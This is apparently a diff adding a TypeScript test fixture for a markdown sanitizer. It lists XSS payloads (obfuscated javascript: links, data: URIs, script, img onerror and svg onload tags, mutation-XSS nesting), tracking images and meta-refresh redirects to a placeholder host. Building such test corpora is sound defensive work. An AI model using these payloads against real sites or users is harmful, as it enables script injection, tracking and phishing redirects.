@@ -1,0 +1,120 @@
+// Texts that somebody may send to run code in another's browser, to learn that they are reading, or to lead them
+// somewhere odd. `attacked` of the window is what a successful one would set.
+
+const CODE = 'window.attacked=1'
+const ELSEWHERE = 'https://elsewhere.example'
+
+/** Addresses that run something or lead out of the six protocols. */
+const ADDRESSES = [
+  `javascript:${CODE}`,
+  `JaVaScRiPt:${CODE}`,
+  ` javascript:${CODE}`,
+  `java\tscript:${CODE}`,
+  `java&#10;script:${CODE}`,
+  `javascript&colon;${CODE}`,
+  `&#106;avascript:${CODE}`,
+  `&#x6A;avascript:${CODE}`,
+  `javascript://example.com/%0a${CODE}`,
+  `\u0001javascript:${CODE}`,
+  `vbscript:${CODE}`,
+  `data:text/html,<script>${CODE}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg onload=${CODE}>`,
+  'ftp://example.com/file',
+  'file:///etc/passwd',
+  'tel:+491234',
+  'sms:+491234',
+  'blob:https://example.com/1',
+  'filesystem:https://example.com/temporary/1',
+  'chrome://settings',
+  'about:blank',
+  'ws://example.com',
+  'ssh://example.com',
+  'intent://example.com#Intent;end',
+]
+
+/** Ways to put an address into a text. */
+const WAYS: ((address: string) => string)[] = [
+  (address) => `[words](${address})`,
+  (address) => `[words](<${address}>)`,
+  (address) => `![words](${address})`,
+  (address) => `<${address}>`,
+  (address) => `[words][1]\n\n[1]: ${address}`,
+]
+
+/** HTML of every kind that runs or loads. */
+const HTML = [
+  `<script>${CODE}</script>`,
+  `<script src="${ELSEWHERE}/x.js"></script>`,
+  `<ScRiPt>${CODE}</sCrIpT>`,
+  `<script\n>${CODE}</script\n>`,
+  `<<script>${CODE}//<</script>`,
+  `<img src=x onerror=${CODE}>`,
+  `<img src="${ELSEWHERE}/seen.png">`,
+  `<img srcset="${ELSEWHERE}/seen.png 1x">`,
+  `<image src=x onerror=${CODE}>`,
+  `<svg onload=${CODE}>`,
+  `<svg><script>${CODE}</script></svg>`,
+  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${CODE}"><text>words</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}></style></mglyph></table></mtext></math>`,
+  `<iframe src="javascript:${CODE}"></iframe>`,
+  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
+  `<object data="data:text/html,<script>${CODE}</script>"></object>`,
+  `<embed src="javascript:${CODE}">`,
+  `<video src="${ELSEWHERE}/x.mp4" onerror=${CODE} autoplay></video>`,
+  `<video poster="${ELSEWHERE}/seen.png"></video>`,
+  `<audio src="${ELSEWHERE}/x.mp3" onerror=${CODE} autoplay></audio>`,
+  `<source src="${ELSEWHERE}/x.mp4">`,
+  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
+  `<link rel="prefetch" href="${ELSEWHERE}/seen">`,
+  `<style>@import url(${ELSEWHERE}/x.css); body { display: none }</style>`,
+  `<p style="background:url(${ELSEWHERE}/seen.png)">words</p>`,
+  `<div style="position:fixed;inset:0;z-index:9999">words</div>`,
+  `<base href="${ELSEWHERE}/">`,
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `<form action="${ELSEWHERE}"><input name="password" autofocus onfocus=${CODE}></form>`,
+  `<button onclick=${CODE} autofocus onfocus=${CODE}>words</button>`,
+  `<body onload=${CODE}>`,
+  `<details open ontoggle=${CODE}><summary>words</summary></details>`,
+  `<marquee onstart=${CODE}>words</marquee>`,
+  `<input type="image" src="${ELSEWHERE}/seen.png" onerror=${CODE}>`,
+  `<select autofocus onfocus=${CODE}></select>`,
+  `<a href="javascript:${CODE}">words</a>`,
+  `<a href="https://example.com" onclick=${CODE} onmouseover=${CODE}>words</a>`,
+  `<a href="https://example.com" target="_self" ping="${ELSEWHERE}">words</a>`,
+  `<div id="root" class="frame">words</div>`,
+  `<template><img src=x onerror=${CODE}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
+  `<!--><img src=x onerror=${CODE}>-->`,
+  `<![CDATA[<img src=x onerror=${CODE}>]]>`,
+  `<?xml version="1.0"?><script>${CODE}</script>`,
+  `<x onclick=${CODE} tabindex=0 autofocus onfocus=${CODE}>words</x>`,
+  `</div></section><script>${CODE}</script>`,
+]
+
+/** Markdown that leads elsewhere by its own means. */
+const TRICKS = [
+  `[words](https://example.com "title\\" onmouseover=${CODE} x=\\"")`,
+  `![words](${ELSEWHERE}/seen.png)`,
+  `[![words](${ELSEWHERE}/seen.png)](javascript:${CODE})`,
+  `![${'words'.repeat(3)}][1]\n\n[1]: ${ELSEWHERE}/seen.png "title"`,
+  `\`<img src=x onerror=${CODE}>\``,
+  `    <script>${CODE}</script>`,
+  `\`\`\`html\n<img src=x onerror=${CODE}>\n\`\`\``,
+  `\`\`\`x" onmouseover="${CODE}\ncode\n\`\`\``,
+  `[words]: javascript:${CODE}\n\n[words]`,
+  `[^1]\n\n[^1]: <img src=x onerror=${CODE}>`,
+  `| <img src=x onerror=${CODE}> |\n| --- |\n| [words](javascript:${CODE}) |`,
+  `- [x] <input onfocus=${CODE} autofocus>`,
+  `# <img src=x onerror=${CODE}>`,
+  `[a](javascript:${CODE})[b](javascript:${CODE})`,
+  `{{constructor.constructor('${CODE}')()}}`,
+]
+
+export const markdownAttacks: string[] = [
+  ...WAYS.flatMap((way) => ADDRESSES.map(way)),
+  ...HTML,
+  ...HTML.map((html) => `**words** ${html}`),
+  ...TRICKS,
+]
